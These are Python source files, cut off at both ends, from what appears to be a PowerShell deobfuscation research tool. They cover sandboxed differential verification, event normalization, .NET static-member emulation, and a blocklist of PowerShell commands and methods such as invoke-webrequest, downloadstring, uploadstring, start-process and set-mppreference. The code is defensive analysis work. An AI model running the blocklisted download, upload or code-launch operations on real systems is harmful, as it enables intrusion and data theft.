        return stats

    # -- aggregation --------------------------------------------------------

    def merge(self, other: "PipelineStats") -> None:
        """Add *other*'s counters and timings into this record."""
        self.tokens_rewritten += other.tokens_rewritten
        self.pieces_recovered += other.pieces_recovered
        self.variables_traced += other.variables_traced
        self.variables_substituted += other.variables_substituted
        self.trace_hits += other.trace_hits
        self.trace_misses += other.trace_misses
        self.evaluator_steps += other.evaluator_steps
        self.recovery_cache_hits += other.recovery_cache_hits
        self.subtree_memo_hits += other.subtree_memo_hits
        self.subtree_memo_misses += other.subtree_memo_misses
        self.intern_hits += other.intern_hits
        self.intern_misses += other.intern_misses
        for reason, count in other.recovery_outcomes.items():
            self.recovery_outcomes[reason] = (
                self.recovery_outcomes.get(reason, 0) + count
            )
        for kind, count in other.unwrap_kinds.items():
            self.unwrap_kinds[kind] = (
                self.unwrap_kinds.get(kind, 0) + count
            )
        for verdict, count in other.verify.items():
            self.verify[verdict] = self.verify.get(verdict, 0) + count
        for tag, count in other.techniques.items():
            self.techniques[tag] = self.techniques.get(tag, 0) + count
        if other.policy:
            if not self.policy:
                self.policy = other.policy
            elif self.policy != other.policy:
                self.policy = "mixed"
        if other.language:
            if not self.language:
                self.language = other.language
            elif self.language != other.language:
                self.language = "mixed"
        for capability, count in other.policy_denials.items():
            self.policy_denials[capability] = (
                self.policy_denials.get(capability, 0) + count
            )
        for dimension, count in other.budget_spent.items():
            self.budget_spent[dimension] = (
                self.budget_spent.get(dimension, 0) + count
            )
        for phase, seconds in other.phase_seconds.items():
            self.phase_seconds[phase] = round(
                self.phase_seconds.get(phase, 0.0) + seconds, 6
            )
        self.spans.extend(other.spans)

    def __getitem__(self, key: str) -> Any:
        # The one-release dict-compat shim (``stats["pieces_recovered"]``,
        # ``.get``, ``in``, iteration) is gone.  Subscripting is kept only
        # to tell migrating callers where to go instead of failing with an
        # opaque TypeError.
        raise KeyError(
            f"PipelineStats is not a mapping; use the attribute "
            f"stats.{key} or serialize with stats.to_dict()[{key!r}]"
        )
