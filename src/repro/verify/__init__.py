"""Semantics-preservation verification (differential execution).

The subsystem behind ``repro verify``: run the original and deobfuscated
scripts in the recording sandbox, normalize their behaviour-event logs
and judge equivalence.  Public surface:

- :func:`verify_equivalence` / :func:`verify_result` — the comparator,
  returning a typed :class:`VerifyVerdict`;
- :func:`observe_behavior` + :class:`BehaviorReport` — one-sided
  behaviour recording under a :class:`~repro.policy.SandboxPolicy`
  (default ``verify-observing``; see :mod:`repro.policy`);
- :func:`same_network_behavior` — the legacy Table IV network-only
  check;
- :func:`normalized_signature` — the event-log canonicalization the
  comparator applies before diffing.
"""

from repro.verify.equivalence import (
    DEFAULT_MAX_DIFF,
    VERDICTS,
    VerifyVerdict,
    verify_equivalence,
    verify_result,
)
from repro.verify.normalize import (
    OBSERVABLE_KINDS,
    describe_event,
    normalized_signature,
)
from repro.verify.observe import (
    DEFAULT_STEP_LIMIT,
    BehaviorReport,
    observe_behavior,
    same_network_behavior,
)

__all__ = [
    "BehaviorReport",
    "DEFAULT_MAX_DIFF",
    "DEFAULT_STEP_LIMIT",
    "OBSERVABLE_KINDS",
    "VERDICTS",
    "VerifyVerdict",
    "describe_event",
    "normalized_signature",
    "observe_behavior",
    "same_network_behavior",
    "verify_equivalence",
    "verify_result",
]
