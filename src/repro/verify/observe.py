"""Sandboxed execution with full behaviour recording.

:func:`observe_behavior` is the verifier's execution half: it runs a
script in the recording sandbox (:mod:`repro.runtime`) under the
``verify-observing`` policy — blocklist off, the ordered
:class:`~repro.runtime.host.BehaviorEvent` log on, denials audited —
then returns a :class:`BehaviorReport` carrying everything one
execution did: events, coarse effects, console output, emitted pipeline
values, the policy audit, and how the run ended (clean, script error,
step-limit exhaustion, blocked, or not parseable at all).

Any :class:`~repro.policy.SandboxPolicy` can be substituted — running a
wild sample under ``wild-sample-paranoid`` makes the audit trail the
analysis product — and the legacy ``step_limit`` /
``enforce_blocklist`` / ``collect_events`` arguments still override the
policy's corresponding settings.

The paper's Table IV compares only network signatures; the event log is
the superset PowerPeeler-style differential validation needs, and
:mod:`repro.verify.equivalence` compares it between the original and
deobfuscated executions.
"""

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Set, Tuple

from repro.policy import PolicyAudit, VERIFY_OBSERVING, resolve_policy
from repro.runtime.errors import (
    BlockedCommandError,
    EvaluationError,
    StepLimitError,
)
from repro.runtime.evaluator import Evaluator
from repro.runtime.host import BehaviorEvent, Effect, SandboxHost
from repro.runtime.limits import ExecutionBudget
from repro.runtime.values import to_string

DEFAULT_STEP_LIMIT = 200_000


@dataclass
class BehaviorReport:
    """Recorded behaviour of one script execution.

    ``effects`` and ``error`` keep the pre-verify shape; ``events``,
    ``output`` and the termination flags are what the equivalence
    comparator consumes; ``policy``/``audit`` record which sandbox
    policy governed the run and what it refused.
    """

    effects: List[Effect] = field(default_factory=list)
    error: Optional[str] = None
    events: List[BehaviorEvent] = field(default_factory=list)
    output: List[str] = field(default_factory=list)
    events_dropped: int = 0
    invalid: bool = False      # script did not parse
    timed_out: bool = False    # execution budget exhausted
    blocked: bool = False      # policy/blocklist refused execution
    policy: str = ""           # name of the policy the run executed under
    audit: Optional[PolicyAudit] = None  # its denial counters + audit log

    @property
    def network_signature(self) -> Set[Tuple[str, str]]:
        """The legacy Table IV comparison key: network kinds + hosts."""
        return {
            (effect.kind, effect.host)
            for effect in self.effects
            if effect.kind.startswith("net.")
        }

    @property
    def has_network_behavior(self) -> bool:
        return bool(self.network_signature)

    def event_counts(self) -> Dict[str, int]:
        """Events by kind — the report's one-line shape."""
        counts: Dict[str, int] = {}
        for event in self.events:
            counts[event.kind] = counts.get(event.kind, 0) + 1
        return counts


def observe_behavior(
    script: str,
    responses: Optional[dict] = None,
    step_limit: Optional[int] = None,
    collect_events: Optional[bool] = None,
    enforce_blocklist: Optional[bool] = None,
    policy=None,
    audit: Optional[PolicyAudit] = None,
) -> BehaviorReport:
    """Execute *script* in the recording sandbox and report its behaviour.

    ``responses`` maps URL → synthetic body, letting multi-stage
    downloaders fetch their second stage hermetically.  The final
    pipeline values the script emits are appended to the event log as
    ``output`` events (name ``result``) so value-producing scripts
    compare on what they print *and* what they return.

    *policy* names or provides the :class:`~repro.policy.SandboxPolicy`
    to run under (default ``verify-observing``); the legacy keyword
    arguments, when given explicitly, override the policy's matching
    settings so existing callers keep their exact semantics.
    """
    policy = (
        VERIFY_OBSERVING if policy is None else resolve_policy(policy)
    )
    if (
        enforce_blocklist is not None
        and enforce_blocklist != policy.enforce_blocklist
    ):
        policy = policy.replace(enforce_blocklist=enforce_blocklist)
    if collect_events is not None and collect_events != policy.collect_events:
        policy = policy.replace(collect_events=collect_events)
    if step_limit is None:
        step_limit = (
            policy.step_limit
            if policy.step_limit is not None else DEFAULT_STEP_LIMIT
        )
    if audit is None:
        audit = PolicyAudit(policy)
    host = SandboxHost.from_policy(
        policy, audit, responses=dict(responses or {})
    )
    evaluator = Evaluator(
        host=host,
        budget=ExecutionBudget.from_policy(policy, step_limit=step_limit),
        policy=policy,
        audit=audit,
        continue_on_error=True,
    )
    report = BehaviorReport(policy=policy.name, audit=audit)
    outputs: List[Any] = []
    try:
        outputs = evaluator.run_script_text(script)
    except StepLimitError as exc:
        report.error = str(exc)
        report.timed_out = True
    except BlockedCommandError as exc:
        report.error = str(exc)
        report.blocked = True
    except EvaluationError as exc:
        report.error = str(exc)
        report.invalid = str(exc).startswith("invalid script:")
    except RecursionError as exc:  # pragma: no cover - defensive
        report.error = f"recursion: {exc}"
    for value in outputs:
        try:
            text = to_string(value)
        except Exception:  # noqa: BLE001 — report building must not throw
            text = f"<{type(value).__name__}>"
        host.record_event("output", "result", (text,))
    audit.add_budget(evaluator.budget)
    report.effects = list(host.effects)
    report.events = list(host.events)
    report.output = list(host.output)
    report.events_dropped = host.events_dropped
    # Under continue_on_error a policy denial aborts only its own
    # statement, so it surfaces as an event, not an exception.
    if any(event.kind == "blocked" for event in report.events):
        report.blocked = True
    return report


def same_network_behavior(
    original: str,
    candidate: str,
    responses: Optional[dict] = None,
) -> bool:
    """Table IV's per-sample check: identical network signatures.

    Kept for the one-release compat window; new code should use
    :func:`repro.verify.verify_equivalence`, which compares the full
    ordered event log instead of the unordered network pair set.
    """
    first = observe_behavior(original, responses, collect_events=False)
    second = observe_behavior(candidate, responses, collect_events=False)
    return first.network_signature == second.network_signature
