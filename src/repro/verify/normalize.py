"""Event normalization for the equivalence comparator.

Two executions never match byte-for-byte: obfuscated scripts spell URLs
in mixed case, build paths with redundant separators, wrap downloads in
retry loops.  :func:`normalized_signature` reduces an event log to the
canonical, externally-visible sequence the comparator actually diffs:

- only **observable** kinds survive (``effect``, ``output``,
  ``blocked``) — a deobfuscated script legitimately executes *fewer*
  commands than its original (no ``iex`` trampoline, no decoder
  member calls), so internal computation events would flag every
  successful deobfuscation as divergent;
- names are case-folded, URLs and Windows paths canonicalized;
- consecutive identical entries collapse (a 3-try retry loop and a
  single attempt express the same intent);
- output text is compared with trailing whitespace stripped.

The full (non-normalized) log still backs the human-readable diff in
:class:`~repro.verify.equivalence.VerifyVerdict`.
"""

from typing import Iterable, List, Tuple
from urllib.parse import urlsplit, urlunsplit

from repro.runtime.host import BehaviorEvent

# Kinds that describe what a script does to the outside world.  Commands,
# member and static calls are computation the deobfuscator is allowed —
# expected, even — to remove; they inform diffs but not verdicts.
OBSERVABLE_KINDS = frozenset({"effect", "output", "blocked"})

NormalizedEvent = Tuple[str, str, Tuple[str, ...]]


def canonical_url(text: str) -> str:
    """Lower-case scheme/host, default-port stripped, no trailing slash."""
    parts = urlsplit(text)
    if not parts.scheme or not parts.netloc:
        return text.lower()
    netloc = parts.netloc.lower()
    for scheme, port in (("http", ":80"), ("https", ":443")):
        if parts.scheme.lower() == scheme and netloc.endswith(port):
            netloc = netloc[: -len(port)]
    path = parts.path or "/"
    if len(path) > 1 and path.endswith("/"):
        path = path.rstrip("/")
    return urlunsplit(
        (parts.scheme.lower(), netloc, path, parts.query, "")
    )


def canonical_path(text: str) -> str:
    """Case-folded Windows-ish path with separators and quotes unified."""
    cleaned = text.strip().strip('"').strip("'").replace("/", "\\")
    while "\\\\" in cleaned:
        cleaned = cleaned.replace("\\\\", "\\")
    return cleaned.lower()


def canonical_target(text: str) -> str:
    """Route a target string to URL or path canonicalization."""
    if "://" in text:
        return canonical_url(text)
    if "\\" in text or "/" in text or text.endswith((".ps1", ".exe", ".dll")):
        return canonical_path(text)
    return text.strip().lower()


def normalize_event(event: BehaviorEvent) -> NormalizedEvent:
    """The comparison form of one event (kind, name, arguments)."""
    name = event.name.lower()
    if event.kind == "output":
        # Console vs pipeline routing is a formatting detail; the text
        # is the behaviour.  Trailing whitespace is presentation noise.
        return ("output", "text", tuple(a.rstrip() for a in event.arguments))
    if event.kind == "effect":
        return ("effect", name, tuple(canonical_target(a) for a in event.arguments))
    return (event.kind, name, tuple(a.strip() for a in event.arguments))


def normalized_signature(
    events: Iterable[BehaviorEvent],
) -> List[NormalizedEvent]:
    """The ordered, deduplicated, observable-only comparison sequence."""
    signature: List[NormalizedEvent] = []
    for event in events:
        if event.kind not in OBSERVABLE_KINDS:
            continue
        entry = normalize_event(event)
        if signature and signature[-1] == entry:
            continue  # collapse retries / duplicate writes
        signature.append(entry)
    return signature


def describe_event(entry: NormalizedEvent) -> str:
    """One-line rendering of a normalized event for diffs and logs."""
    kind, name, arguments = entry
    rendered = ", ".join(arguments)
    return f"{kind}:{name}({rendered})" if rendered else f"{kind}:{name}"
