"""Differential semantic-equivalence verification.

:func:`verify_equivalence` is the subsystem's core: execute the original
and the deobfuscated script under identical sandbox limits, normalize
both behaviour logs (:mod:`repro.verify.normalize`), and judge:

``equivalent``
    The normalized observable sequences match — the deobfuscated script
    still *does* the same things, in the same order.

``divergent``
    The sequences differ (or the candidate no longer parses).  The
    verdict carries a minimal event diff so a triage analyst sees the
    first behaviours gained/lost rather than two raw logs.

``inconclusive``
    Either execution hit the step limit or was refused by the blocklist
    before finishing — the logs are truncated, so neither equality nor
    inequality would be trustworthy.

This is the paper's behavioural-consistency experiment (Table IV)
upgraded from an unordered network-signature set to an ordered,
multi-surface event comparison.
"""

import time
from dataclasses import dataclass
from difflib import SequenceMatcher
from typing import Any, Dict, List, Optional, Tuple

from repro.verify.normalize import describe_event, normalized_signature
from repro.verify.observe import (
    DEFAULT_STEP_LIMIT,
    BehaviorReport,
    observe_behavior,
)

VERDICTS = ("equivalent", "divergent", "inconclusive")

# A verdict's diff is a *minimal* witness, not a transcript.
DEFAULT_MAX_DIFF = 8


@dataclass(frozen=True)
class VerifyVerdict:
    """The outcome of one differential verification run."""

    verdict: str                               # one of VERDICTS
    reason: str = ""
    diff: Tuple[str, ...] = ()                 # "- lost" / "+ gained" lines
    original_events: int = 0
    candidate_events: int = 0
    original_error: str = ""
    candidate_error: str = ""
    seconds: float = 0.0

    @property
    def equivalent(self) -> bool:
        return self.verdict == "equivalent"

    def to_dict(self) -> Dict[str, Any]:
        data: Dict[str, Any] = {
            "verdict": self.verdict,
            "original_events": self.original_events,
            "candidate_events": self.candidate_events,
            "seconds": round(self.seconds, 4),
        }
        if self.reason:
            data["reason"] = self.reason
        if self.diff:
            data["diff"] = list(self.diff)
        if self.original_error:
            data["original_error"] = self.original_error
        if self.candidate_error:
            data["candidate_error"] = self.candidate_error
        return data

    @classmethod
    def from_dict(cls, data: Dict[str, Any]) -> "VerifyVerdict":
        return cls(
            verdict=str(data.get("verdict", "inconclusive")),
            reason=str(data.get("reason", "")),
            diff=tuple(str(line) for line in data.get("diff", ())),
            original_events=int(data.get("original_events", 0)),
            candidate_events=int(data.get("candidate_events", 0)),
            original_error=str(data.get("original_error", "")),
            candidate_error=str(data.get("candidate_error", "")),
            seconds=float(data.get("seconds", 0.0)),
        )


def _event_diff(
    original: List[Tuple[str, str, Tuple[str, ...]]],
    candidate: List[Tuple[str, str, Tuple[str, ...]]],
    max_diff: int,
) -> Tuple[str, ...]:
    """Minimal ``-``/``+`` witness of where the two sequences part ways."""
    lines: List[str] = []
    matcher = SequenceMatcher(a=original, b=candidate, autojunk=False)
    for op, a_lo, a_hi, b_lo, b_hi in matcher.get_opcodes():
        if op == "equal":
            continue
        for entry in original[a_lo:a_hi]:
            lines.append("- " + describe_event(entry))
        for entry in candidate[b_lo:b_hi]:
            lines.append("+ " + describe_event(entry))
    if len(lines) > max_diff:
        extra = len(lines) - max_diff
        lines = lines[:max_diff] + [f"… {extra} more difference(s)"]
    return tuple(lines)


def _truncation_reason(label: str, report: BehaviorReport) -> Optional[str]:
    """Why *report* cannot support a verdict, or None if it can."""
    if report.timed_out:
        return f"{label} script exhausted the step limit"
    if report.blocked:
        return f"{label} script execution was blocked"
    if report.events_dropped:
        return f"{label} script overflowed the event log"
    return None


def verify_equivalence(
    original: str,
    candidate: str,
    responses: Optional[dict] = None,
    step_limit: int = DEFAULT_STEP_LIMIT,
    max_diff: int = DEFAULT_MAX_DIFF,
    policy=None,
) -> VerifyVerdict:
    """Differentially verify that *candidate* preserves *original*'s
    observable behaviour.  Both run under the same sandbox policy
    (default ``verify-observing``), limits, and synthetic
    ``responses``; see the module docstring for the verdict
    semantics."""
    started = time.perf_counter()
    first = observe_behavior(
        original, responses, step_limit=step_limit, policy=policy
    )
    second = observe_behavior(
        candidate, responses, step_limit=step_limit, policy=policy
    )
    elapsed = lambda: time.perf_counter() - started  # noqa: E731

    def build(verdict: str, reason: str, diff: Tuple[str, ...] = ()):
        return VerifyVerdict(
            verdict=verdict,
            reason=reason,
            diff=diff,
            original_events=len(first.events),
            candidate_events=len(second.events),
            original_error=first.error or "",
            candidate_error=second.error or "",
            seconds=elapsed(),
        )

    if second.invalid:
        return build("divergent", "deobfuscated script does not parse")
    if first.invalid:
        # The pipeline never produced a candidate from an unparseable
        # original (valid_input=False keeps the text untouched), so this
        # arm only triggers on hand-fed pairs — nothing to compare.
        return build("inconclusive", "original script does not parse")
    for label, report in (("original", first), ("deobfuscated", second)):
        reason = _truncation_reason(label, report)
        if reason:
            return build("inconclusive", reason)

    first_signature = normalized_signature(first.events)
    second_signature = normalized_signature(second.events)
    if first_signature == second_signature:
        return build("equivalent", "")
    diff = _event_diff(first_signature, second_signature, max_diff)
    return build(
        "divergent",
        "normalized behaviour logs differ "
        f"({len(first_signature)} vs {len(second_signature)} observable events)",
        diff,
    )


def verify_result(
    result: Any,
    responses: Optional[dict] = None,
    step_limit: int = DEFAULT_STEP_LIMIT,
    policy=None,
) -> VerifyVerdict:
    """Verify a :class:`~repro.core.pipeline.DeobfuscationResult`.

    Fast paths: an untouched script is trivially equivalent (nothing to
    execute), and a result the pipeline already marked invalid-input
    cannot be judged.
    """
    if not getattr(result, "valid_input", True):
        return VerifyVerdict(
            verdict="inconclusive", reason="original script does not parse"
        )
    if result.script == result.original:
        return VerifyVerdict(
            verdict="equivalent", reason="script unchanged by pipeline"
        )
    return verify_equivalence(
        result.original,
        result.script,
        responses,
        step_limit=step_limit,
        policy=policy,
    )
