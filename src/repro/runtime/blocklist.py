"""The deobfuscation blocklist (paper Section III-B2).

Recoverable pieces sometimes contain commands "unrelated to the recovery
process, such as Restart-Computer, Start-Sleep, etc.".  Executing them
slows deobfuscation (Fig 6's baseline failure mode) or is dangerous, so
pieces containing them are skipped.  Method names are blocked too: the
case study (Fig 7d) leaves ``downloadstring`` untouched because it is on
the blocklist.
"""

from typing import Iterable

BLOCKED_COMMANDS = frozenset(
    name.lower()
    for name in [
        # Machine state.
        "restart-computer", "stop-computer", "remove-item", "set-item",
        "remove-itemproperty", "set-itemproperty", "new-itemproperty",
        "stop-process", "stop-service", "restart-service", "set-service",
        "disable-windowsoptionalfeature", "set-executionpolicy",
        "set-mppreference", "add-mppreference",
        # Timing / anti-analysis.
        "start-sleep", "sleep", "wait-event", "wait-process", "wait-job",
        "register-scheduledtask", "register-scheduledjob",
        # Process / code launch.
        "start-process", "saps", "start", "invoke-item", "start-job",
        "invoke-command", "icm", "invoke-wmimethod", "invoke-cimmethod",
        "new-service", "start-bitstransfer",
        # Network.
        "invoke-webrequest", "iwr", "wget", "curl", "invoke-restmethod",
        "irm", "test-connection", "test-netconnection", "resolve-dnsname",
        "send-mailmessage",
        # Interaction / environment probes.
        "read-host", "get-credential", "out-gridview", "show-command",
        "get-clipboard", "set-clipboard",
    ]
)

BLOCKED_METHODS = frozenset(
    name.lower()
    for name in [
        "downloadstring", "downloadfile", "downloaddata", "uploadstring",
        "uploaddata", "uploadfile", "openread", "openwrite",
        "getasync", "postasync", "send",
        "connect", "getstream",
        "start", "kill", "waitforexit",
        "create", "shellexecute",
        "writealltext", "writeallbytes", "readallbytes", "readalltext",
        "deletefile", "delete", "move", "copy",
    ]
)

BLOCKED_TYPES = frozenset(
    name.lower()
    for name in [
        "system.net.webrequest", "net.webrequest",
        "system.net.httpwebrequest", "net.httpwebrequest",
        "system.diagnostics.process", "diagnostics.process",
        "system.io.file", "io.file",
        "microsoft.win32.registry",
    ]
)


def is_blocked_command(name: str) -> bool:
    return name.lower().strip() in BLOCKED_COMMANDS


def is_blocked_method(name: str) -> bool:
    return name.lower().strip() in BLOCKED_METHODS


def is_blocked_type(name: str) -> bool:
    cleaned = name.lower().strip().lstrip("[").rstrip("]")
    if cleaned.startswith("system."):
        bare = cleaned[len("system."):]
    else:
        bare = cleaned
    return cleaned in BLOCKED_TYPES or f"system.{bare}" in BLOCKED_TYPES


def contains_blocked_name(text: str, extra: Iterable[str] = ()) -> bool:
    """Cheap textual prefilter before evaluating a recoverable piece."""
    lowered = text.lower()
    for name in BLOCKED_COMMANDS:
        if name in lowered:
            return True
    for name in extra:
        if name.lower() in lowered:
            return True
    return False
