"""Static members of allowlisted .NET types (``[Type]::Member``).

Encoding tricks in the paper's Table II lean on a handful of BCL statics:
``[Convert]::FromBase64String`` (Base64), ``[Convert]::ToInt32(s, base)``
(binary/octal/hex), ``[Text.Encoding]::Unicode.GetString`` (encoded
commands), ``[Runtime.InteropServices.Marshal]`` (SecureString) and
``[array]::Reverse`` (string reversing).  Everything here is pure.
"""

import base64
import binascii
import math
import re
from typing import Any, Callable, Dict, List

from repro.runtime import securestring as ss
from repro.runtime.errors import EvaluationError, UnsupportedOperationError
from repro.runtime.objects import Encoding, _coerce_bytes
from repro.runtime.values import (
    PSChar,
    as_list,
    to_int,
    to_number,
    to_string,
)


def normalize_type_name(name: str) -> str:
    """Lowercase, strip brackets/backticks and a leading ``system.``."""
    cleaned = name.strip().strip("[]").replace("`", "").lower()
    if cleaned.startswith("system."):
        cleaned = cleaned[len("system."):]
    return cleaned


# ---------------------------------------------------------------------------
# [Convert]
# ---------------------------------------------------------------------------


def _convert_frombase64(args: List[Any]) -> bytearray:
    # .NET tolerates whitespace inside base64 but throws on any other
    # invalid character — validate=True after stripping whitespace.
    text = "".join(to_string(args[0]).split())
    try:
        return bytearray(base64.b64decode(text, validate=True))
    except (binascii.Error, ValueError) as exc:
        raise EvaluationError(f"bad base64: {exc}") from exc


def _convert_tobase64(args: List[Any]) -> str:
    return base64.b64encode(_coerce_bytes(args[0])).decode("ascii")


def _convert_toint(args: List[Any], bits: int) -> int:
    if len(args) >= 2:
        value = args[0]
        radix = to_int(args[1])
        if isinstance(value, PSChar):
            # Convert.ToInt32([char], int) treats the int as a radix only
            # for strings; for chars it is an overload returning the code.
            return value.code
        return int(to_string(value).strip(), radix)
    value = args[0]
    if isinstance(value, PSChar):
        return value.code
    return to_int(value)


def _convert_tostring(args: List[Any]) -> str:
    if len(args) >= 2:
        value, radix = to_int(args[0]), to_int(args[1])
        if radix == 2:
            return bin(value)[2:]
        if radix == 8:
            return oct(value)[2:]
        if radix == 16:
            return format(value, "x")
        if radix == 10:
            return str(value)
        raise EvaluationError(f"unsupported radix {radix}")
    return to_string(args[0])


def _convert_tochar(args: List[Any]) -> PSChar:
    return PSChar(to_int(args[0]))


def _convert_tobyte(args: List[Any]) -> int:
    if len(args) >= 2:
        return int(to_string(args[0]).strip(), to_int(args[1])) & 0xFF
    return to_int(args[0]) & 0xFF


# ---------------------------------------------------------------------------
# [string], [char], [array], [math], [regex], [bitconverter]
# ---------------------------------------------------------------------------


def _string_join(args: List[Any]) -> str:
    separator = to_string(args[0])
    items = args[1] if len(args) == 2 else args[1:]
    return separator.join(to_string(v) for v in as_list(items))


def _string_format(args: List[Any]) -> str:
    from repro.runtime.operators import format_operator

    return format_operator(args[0], list(args[1:]))


def _string_concat(args: List[Any]) -> str:
    out = []
    for arg in args:
        if isinstance(arg, list):
            out.extend(to_string(v) for v in arg)
        else:
            out.append(to_string(arg))
    return "".join(out)


def _array_reverse(args: List[Any]) -> None:
    target = args[0]
    if isinstance(target, list):
        target.reverse()
        return None
    if isinstance(target, bytearray):
        target.reverse()
        return None
    raise EvaluationError("[array]::Reverse needs an array")


def _array_sort(args: List[Any]) -> None:
    target = args[0]
    if isinstance(target, list):
        target.sort(key=to_string)
        return None
    raise EvaluationError("[array]::Sort needs an array")


def _regex_replace(args: List[Any]) -> str:
    text, pattern, replacement = (to_string(a) for a in args[:3])
    return re.sub(pattern, replacement.replace("\\", "\\\\"), text)


def _regex_matches(args: List[Any]) -> List[str]:
    text, pattern = to_string(args[0]), to_string(args[1])
    return [m.group(0) for m in re.finditer(pattern, text)]


def _regex_split(args: List[Any]) -> List[str]:
    text, pattern = to_string(args[0]), to_string(args[1])
    return re.split(pattern, text)


def _bitconverter_tostring(args: List[Any]) -> str:
    return "-".join(f"{b:02X}" for b in _coerce_bytes(args[0]))


# ---------------------------------------------------------------------------
# Dispatch tables
# ---------------------------------------------------------------------------

# type -> member -> property value factory (no-arg).
STATIC_PROPERTIES: Dict[str, Dict[str, Callable[[], Any]]] = {
    "convert": {},
    "string": {
        "empty": lambda: "",
    },
    "char": {
        "maxvalue": lambda: PSChar(0xFFFF),
        "minvalue": lambda: PSChar(0),
    },
    "int32": {"maxvalue": lambda: 2**31 - 1, "minvalue": lambda: -(2**31)},
    "math": {"pi": lambda: math.pi, "e": lambda: math.e},
    "text.encoding": {
        "unicode": lambda: Encoding("unicode"),
        "utf8": lambda: Encoding("utf8"),
        "ascii": lambda: Encoding("ascii"),
        "bigendianunicode": lambda: Encoding("bigendianunicode"),
        "utf32": lambda: Encoding("utf32"),
        "utf7": lambda: Encoding("utf7"),
        "default": lambda: Encoding("default"),
        "oem": lambda: Encoding("oem"),
    },
    "io.compression.compressionmode": {
        "decompress": lambda: "decompress",
        "compress": lambda: "compress",
    },
    "environment": {
        "newline": lambda: "\r\n",
        "machinename": lambda: "DESKTOP-REPRO",
        "username": lambda: "user",
        "systemdirectory": lambda: r"C:\WINDOWS\system32",
    },
    "intptr": {"zero": lambda: 0},
}

# type -> member -> callable(args).
STATIC_METHODS: Dict[str, Dict[str, Callable[[List[Any]], Any]]] = {
    "convert": {
        "frombase64string": _convert_frombase64,
        "tobase64string": _convert_tobase64,
        "toint32": lambda args: _convert_toint(args, 32),
        "toint16": lambda args: _convert_toint(args, 16),
        "toint64": lambda args: _convert_toint(args, 64),
        "touint32": lambda args: _convert_toint(args, 32),
        "tochar": _convert_tochar,
        "tobyte": _convert_tobyte,
        "tostring": _convert_tostring,
        "todouble": lambda args: float(to_number(args[0])),
    },
    "string": {
        "join": _string_join,
        "format": _string_format,
        "concat": _string_concat,
        "isnullorempty": lambda args: args[0] is None
        or to_string(args[0]) == "",
        "isnullorwhitespace": lambda args: args[0] is None
        or to_string(args[0]).strip() == "",
        "new": lambda args: to_string(args[0]) * (
            to_int(args[1]) if len(args) > 1 else 1
        ),
    },
    "char": {
        "tostring": lambda args: to_string(PSChar(args[0]))
        if not isinstance(args[0], PSChar)
        else args[0].char,
        "toupper": lambda args: PSChar(PSChar(args[0]).char.upper()),
        "tolower": lambda args: PSChar(PSChar(args[0]).char.lower()),
        "isdigit": lambda args: PSChar(args[0]).char.isdigit(),
        "isletter": lambda args: PSChar(args[0]).char.isalpha(),
        "convertfromutf32": lambda args: chr(to_int(args[0])),
    },
    "array": {
        "reverse": _array_reverse,
        "sort": _array_sort,
    },
    "math": {
        "abs": lambda args: abs(to_number(args[0])),
        "floor": lambda args: math.floor(to_number(args[0])),
        "ceiling": lambda args: math.ceil(to_number(args[0])),
        "sqrt": lambda args: math.sqrt(to_number(args[0])),
        "pow": lambda args: to_number(args[0]) ** to_number(args[1]),
        "max": lambda args: max(to_number(args[0]), to_number(args[1])),
        "min": lambda args: min(to_number(args[0]), to_number(args[1])),
        "round": lambda args: round(to_number(args[0])),
    },
    "regex": {
        "replace": _regex_replace,
        "matches": _regex_matches,
        "match": lambda args: (
            (lambda m: m.group(0) if m else "")(
                re.search(to_string(args[1]), to_string(args[0]))
            )
        ),
        "split": _regex_split,
        "escape": lambda args: re.escape(to_string(args[0])),
        "unescape": lambda args: re.sub(
            r"\\(.)", r"\1", to_string(args[0])
        ),
    },
    "bitconverter": {
        "tostring": _bitconverter_tostring,
        "getbytes": lambda args: bytearray(
            to_int(args[0]).to_bytes(4, "little", signed=True)
        ),
    },
    "runtime.interopservices.marshal": {
        "securestringtobstr": lambda args: ss.securestring_to_bstr(args[0]),
        "securestringtoglobalallocunicode": lambda args: (
            ss.securestring_to_bstr(args[0])
        ),
        "securestringtocotaskmemunicode": lambda args: (
            ss.securestring_to_bstr(args[0])
        ),
        "ptrtostringauto": lambda args: ss.ptr_to_string(args[0]),
        "ptrtostringbstr": lambda args: ss.ptr_to_string(args[0]),
        "ptrtostringuni": lambda args: ss.ptr_to_string(args[0]),
        "zerofreebstr": lambda args: None,
        "zerofreeglobalallocunicode": lambda args: None,
        "zerofreecotaskmemunicode": lambda args: None,
        "freehglobal": lambda args: None,
    },
    "text.encoding": {
        "getencoding": lambda args: Encoding(
            {"utf-16": "unicode", "utf-16le": "unicode",
             "us-ascii": "ascii", "utf-8": "utf8"}.get(
                to_string(args[0]).lower(), to_string(args[0])
            )
        ),
    },
    "environment": {
        "getenvironmentvariable": lambda args: __import__(
            "repro.runtime.environment", fromlist=["lookup_environment"]
        ).lookup_environment(to_string(args[0])),
        "expandenvironmentvariables": lambda args: to_string(args[0]),
    },
    "scriptblock": {},  # Create handled by the evaluator (needs parsing).
    "int32": {"parse": lambda args: to_int(args[0])},
    "int64": {"parse": lambda args: to_int(args[0])},
    "double": {"parse": lambda args: float(to_number(args[0]))},
    "byte": {"parse": lambda args: to_int(args[0]) & 0xFF},
}

_TYPE_SYNONYMS = {
    "text.unicodeencoding": "text.encoding",
    "text.utf8encoding": "text.encoding",
    "text.asciiencoding": "text.encoding",
    "int": "int32",
    "long": "int64",
    "text.regularexpressions.regex": "regex",
    "management.automation.scriptblock": "scriptblock",
}


def resolve_type(name: str) -> str:
    normalized = normalize_type_name(name)
    return _TYPE_SYNONYMS.get(normalized, normalized)


def get_static_property(type_name: str, member: str) -> Any:
    resolved = resolve_type(type_name)
    table = STATIC_PROPERTIES.get(resolved)
    if table is None:
        raise UnsupportedOperationError(f"type [{type_name}] not allowlisted")
    factory = table.get(member.lower())
    if factory is None:
        raise UnsupportedOperationError(
            f"[{type_name}]::{member} not allowlisted"
        )
    return factory()


def call_static(type_name: str, member: str, args: List[Any]) -> Any:
    resolved = resolve_type(type_name)
    table = STATIC_METHODS.get(resolved)
    if table is None:
        raise UnsupportedOperationError(f"type [{type_name}] not allowlisted")
    method = table.get(member.lower())
    if method is None:
        raise UnsupportedOperationError(
            f"[{type_name}]::{member}() not allowlisted"
        )
    return method(args)


def has_type(type_name: str) -> bool:
    resolved = resolve_type(type_name)
    return resolved in STATIC_METHODS or resolved in STATIC_PROPERTIES
