"""Execution budgets bounding every sandboxed evaluation."""

import time
from dataclasses import dataclass, field
from typing import Dict, Optional

